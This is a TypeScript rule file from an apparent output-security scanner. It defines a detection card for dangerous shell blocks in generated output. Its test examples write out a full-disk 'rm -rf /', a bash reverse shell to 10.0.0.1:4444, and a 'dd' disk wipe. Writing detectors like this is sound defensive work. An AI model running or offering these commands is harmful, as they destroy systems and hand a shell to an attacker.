/** The cards of all that the shell analyser finds. */

import { OUTPUT } from '../../../rules/taxonomy.ts';
import type { RuleCard } from '../../../types.ts';
import { accessCards } from './access.ts';
import { attackCards } from './attack.ts';
import { destructionCards } from './destruction.ts';

/** What a tool is told to run. */
export const shellCards: readonly RuleCard[] = [...destructionCards, ...accessCards, ...attackCards];

/** What an output shows in a fenced block, for somebody to run. */
export const outputCard: RuleCard = {
  id: 'shell-in-output',
  version: 1,
  category: 'INSECURE_OUTPUT',
  type: 'dangerous_shell',
  severity: 'HIGH',
  confidence: 0.8,
  description:
    'A shell block of an output that would destroy a system or its disks, open a shell to somebody else, dump credentials or send data away.',
  severity_reason:
    'It does its harm as soon as somebody pastes it; installers piped into a shell are left to the tool that runs them.',
  references: [
    'https://attack.mitre.org/techniques/T1204/',
    'https://cwe.mitre.org/data/definitions/78.html',
  ],
  taxonomy: [OUTPUT, 'CWE-78'],
  kinds: ['output'],
  examples: {
    match: [
      { text: 'Run this:\n```bash\nsudo rm -rf /\n```', kind: 'output' },
      { text: '```sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```\nDone.', kind: 'output' },
      { text: '1. Wipe it:\n```console\n$ dd if=/dev/zero of=/dev/sda bs=1M\n```', kind: 'output' },
    ],
    no_match: [
      { text: 'Never run `rm -rf /` as root.', kind: 'output' },
      { text: '```bash\nnpm ci && npm test\n```', kind: 'output' },
      { text: '```bash\ncurl -fsSL https://get.example.com/install.sh | sh\n```', kind: 'output' },
      { text: '```python\nprint("rm -rf /")\n```', kind: 'output' },
    ],
  },
};
